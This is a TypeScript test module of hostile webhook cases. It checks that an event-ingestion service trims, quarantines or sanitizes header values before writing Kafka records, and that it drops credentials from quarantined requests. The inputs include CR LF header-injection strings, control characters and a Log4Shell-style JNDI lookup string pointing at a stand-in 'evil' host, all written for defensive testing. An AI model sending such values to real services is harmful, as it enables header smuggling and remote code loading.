import type { OutboundRecord } from '@app/kafka';
import { kafkaHeader, post, quarantined, SAMPLES, signedFor, type HostileCase } from '../../support/hostile';

/**
 * Header values that end up in records (event type, delivery id, traceparent). A record is either
 * refused, quarantined with the raw value only inside its JSON value, or carries a sanitized value;
 * the shared checks also hold every Kafka header of every record to short printable ASCII.
 */

type Outcome = ['type', string] | ['quarantined'];

const HOSTILE_TYPES: [string, string, Outcome][] = [
  ['CR LF and a header', 'push\r\nX-Injected: 1', ['quarantined']],
  ['a trailing LF (trimmed)', 'push\n', ['type', 'push']],
  ['a leading LF (trimmed)', '\npush', ['type', 'push']],
  ['surrounding spaces (trimmed)', ' push ', ['type', 'push']],
  ['a NUL', 'push\u0000', ['quarantined']],
  ['a tab inside', 'push\tx', ['quarantined']],
  ['non-ASCII', 'pu\u00dfh\u2603', ['quarantined']],
  ['10 KB', 'p'.repeat(10_240), ['quarantined']],
  ['201 characters', 'p'.repeat(201), ['quarantined']],
  ['200 characters (the limit)', 'p'.repeat(200), ['type', 'p'.repeat(200)]],
  ['a lookup string (printable, carried as is)', '${jndi:ldap://evil/a}', ['type', '${jndi:ldap://evil/a}']],
];

const SHOP_TOPICS: [string, string, Outcome][] = [
  ['CR LF and a header', 'orders/create\r\nX-Injected: 1', ['quarantined']],
  ['a trailing CR LF (trimmed, still mapped)', 'orders/create\r\n', ['type', 'orders/create']],
  ['a NUL', 'orders/create\u0000', ['quarantined']],
  ['10 KB', `orders/create${'x'.repeat(10_240)}`, ['quarantined']],
];

const TRACEPARENT = /^00-[0-9a-f]{32}-[0-9a-f]{16}-[0-9a-f]{2}$/;

function expectOutcome(provider: 'github' | 'shop', header: string, value: string, outcome: Outcome): (r: OutboundRecord) => void {
  return (r) => {
    if (outcome[0] === 'type') {
      expect(kafkaHeader(r, 'ce_type')).toBe(`${provider}.${outcome[1]}`);
      return;
    }
    expect(kafkaHeader(r, 'ce_type')).toBe(`${provider}.unknown`);
    expect(quarantined(r).headers[header]).toBe(value); // the raw value, JSON-escaped inside the value only
  };
}

export function injectionCases(): HostileCase[] {
  const gh = SAMPLES.github.body;
  const shop = SAMPLES.shop.body;
  const cases: HostileCase[] = [];
  for (const [what, value, outcome] of HOSTILE_TYPES) {
    cases.push({
      name: `x-github-event with ${what}`,
      request: post('github', gh, signedFor('github', gh, { headers: { 'x-github-event': value } })),
      expect: { stored: outcome[0] === 'type' ? 'accepted' : 'quarantined', topic: 'webhooks.github', check: expectOutcome('github', 'x-github-event', value, outcome) },
    });
    cases.push({
      name: `x-github-delivery with ${what}`,
      request: post('github', gh, signedFor('github', gh, { headers: { 'x-github-delivery': value } })),
      expect: {
        stored: 'accepted',
        topic: 'webhooks.github',
        check: (r) => expect(kafkaHeader(r, 'ce_id')).toEqual(outcome[0] === 'type' ? outcome[1] : expect.stringMatching(/^[0-9a-f]{64}$/)),
      },
    });
  }
  for (const [what, value, outcome] of SHOP_TOPICS) {
    cases.push({
      name: `x-shopify-topic with ${what}`,
      request: post('shop', shop, signedFor('shop', shop, { headers: { 'x-shopify-topic': value } })),
      expect: { stored: outcome[0] === 'type' ? 'accepted' : 'quarantined', topic: 'orders.placed', check: expectOutcome('shop', 'x-shopify-topic', value, outcome) },
    });
  }
  const trace = `00-${'a'.repeat(32)}-${'b'.repeat(16)}-01`;
  for (const [what, value] of [
    ['garbage', 'garbage'],
    ['a CR LF and a header', `${trace}\r\nX-Injected: 1`],
    ['an all-zero trace id', `00-${'0'.repeat(32)}-${'b'.repeat(16)}-01`],
    ['upper-case hex', trace.toUpperCase()],
  ]) {
    cases.push({
      name: `traceparent with ${what}`,
      request: post('github', gh, signedFor('github', gh, { headers: { traceparent: value } })),
      expect: { stored: 'accepted', topic: 'webhooks.github', check: (r) => expect(kafkaHeader(r, 'ce_traceparent')).toMatch(TRACEPARENT) },
    });
  }
  // Body values that become CloudEvents attributes (ce_subject). CloudEvents strings may not hold control
  // characters, and a subject travels on into follow-up events and, in HTTP binary mode, into HTTP headers.
  const subjects: [string, string][] = [
    ['CR LF and a header', 'l1\r\nX-Injected: 1'],
    ['a NUL', 'l1\u0000'],
    ['a DEL', 'l1\u007f'],
  ];
  for (const [what, id] of subjects) {
    const lead = Buffer.from(JSON.stringify({ id: 'evt-s', type: 'lead.created', data: { id, email: 'ada@example.com' } }));
    const order = Buffer.from(SAMPLES.shop.body.toString().replace(/"admin_graphql_api_id": "[^"]*",/, '').replace(/"id": \d+/, `"id": ${JSON.stringify(id)}`));
    const shipment = Buffer.from(SAMPLES.logistics.body.toString().replace(/"order_id": "[^"]*"/, `"order_id": ${JSON.stringify(id)}`));
    const noSubject = (r: OutboundRecord) => expect(r.message.headers).not.toHaveProperty(['ce_subject']);
    cases.push(
      { name: `crm: a lead id with ${what} is not made the subject`, request: post('crm', lead, signedFor('crm', lead)), expect: { stored: 'accepted', topic: 'leads.created', check: noSubject } },
      { name: `shop: an order id with ${what} is not made the subject`, request: post('shop', order, signedFor('shop', order)), expect: { stored: 'accepted', topic: 'orders.placed', check: noSubject } },
      { name: `logistics: an order id with ${what} is not made the subject`, request: post('logistics', shipment, signedFor('logistics', shipment)), expect: { stored: 'accepted', topic: 'shipments.updated', check: noSubject } },
    );
  }
  const secrets = { authorization: 'Bearer s3cr3t-token', cookie: 'session=s3cr3t', 'x-api-key': 's3cr3t-key', 'proxy-authorization': 'Basic s3cr3t' };
  cases.push({
    name: 'credentials on a quarantined request are not kept',
    request: post('github', gh, signedFor('github', gh, { headers: { ...secrets, 'x-github-event': 'push\r\n\r\nx' } })),
    expect: {
      stored: 'quarantined',
      check: (r) => {
        expect(String(r.message.value)).not.toMatch(/s3cr3t|sha256=/);
        expect(quarantined(r).headers).not.toHaveProperty(['x-hub-signature-256']);
      },
    },
  });
  return cases;
}
